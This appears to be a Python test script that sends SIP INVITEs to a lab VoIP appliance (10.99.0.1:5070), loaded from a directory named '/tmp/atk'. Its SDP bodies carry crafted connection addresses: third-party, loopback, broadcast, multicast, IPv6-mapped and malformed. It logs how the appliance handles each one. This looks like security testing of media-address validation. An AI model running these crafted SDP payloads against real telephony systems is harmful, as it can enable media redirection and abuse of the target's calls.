import sys,time,socket,re; sys.path.insert(0,'/tmp/atk')
from sipx import *
H='10.99.0.1:5070'; N=[20]
def nip():
    N[0]+=1; return f'10.99.0.{N[0]}'
def sdpx(sess_c, media_c=None, port=40000, extra="", ipver='IP4', mlines=None):
    s=f"v=0\r\no=- 1 1 IN IP4 1.2.3.4\r\ns=-\r\n"+(f"c=IN {ipver} {sess_c}\r\n" if sess_c else "")+"t=0 0\r\n"
    for ml in (mlines or [(port, media_c)]):
        s+=f"m=audio {ml[0]} RTP/AVP 8 101\r\n"+(f"c=IN {ipver} {ml[1]}\r\n" if ml[1] else "")+"a=rtpmap:8 PCMA/8000\r\na=rtpmap:101 telephone-event/8000\r\n"+extra
    return s
def call(ip, body):
    ua=UA(ip); frm=f'<sip:13900000000@{ip}>'; ruri=f'sip:96315@{H}'
    cid,tag=invite(ua, ruri, frm, body=body); r,_=ua.final(5)
    return ua, r, cid, tag, frm, ruri
def first(r): return r.split('\r\n')[0] if r else 'NO FINAL'
T='10.99.0.200'
if __name__=="__main__":
  for name, mk in [
   ('media-level c= third party', lambda ip: sdpx(ip, T)),
   ('session third, media own', lambda ip: sdpx(T, ip)),
   ('2 m-lines, 2nd third party', lambda ip: sdpx(ip, mlines=[(0,None),(40000,T)])),
   ('2 m-lines, 1st third party', lambda ip: sdpx(ip, mlines=[(40000,T),(40002,None)])),
   ('IP6 mapped third', lambda ip: sdpx('::ffff:'+T, ipver='IP6')),
   ('IP4 with TTL', lambda ip: sdpx(T+'/127')),
   ('IP4 leading zeros', lambda ip: sdpx('010.099.000.200')),
   ('IP4 appliance own', lambda ip: sdpx('10.99.0.1', port=5070)),
   ('IP4 subnet bcast', lambda ip: sdpx('10.99.0.255')),
   ('hostname', lambda ip: sdpx('localhost')),
   ('rtcp attr third', lambda ip: sdpx(ip, extra=f'a=rtcp:9999 IN IP4 {T}\r\n')),
   ('c=IN IP4 0.0.0.0 hold', lambda ip: sdpx('0.0.0.0')),
   ('no c= at all', lambda ip: sdpx(None)),
   ('c=IN IP4 127.0.0.1', lambda ip: sdpx('127.0.0.1')),
   ('IP6 ::1', lambda ip: sdpx('::1', ipver='IP6')),
   ('IP6 multicast', lambda ip: sdpx('ff02::1', ipver='IP6')),
   ('IPv4 in IP6 field', lambda ip: sdpx(T, ipver='IP6')),
   ('IP6 addr in IP4 field', lambda ip: sdpx('::ffff:'+T)),
   ('c= 10.99.0.200 with trailing', lambda ip: sdpx(T+' ')),
 ]:
     ip=nip(); ua,r,cid,tag,frm,ruri=call(ip, mk(ip))
     out=first(r)
     if r:
         ack(ua, ruri, f'{frm};tag={tag}', hdr(r,'To'), cid)
         if ' 200 ' in out:
             time.sleep(0.3); bye(ua, ruri, f'{frm};tag={tag}', hdr(r,'To'), cid); ua.final(2)
     print(f'{name:32s} {out}  {hdr(r,"Warning") or "" if r else ""}')
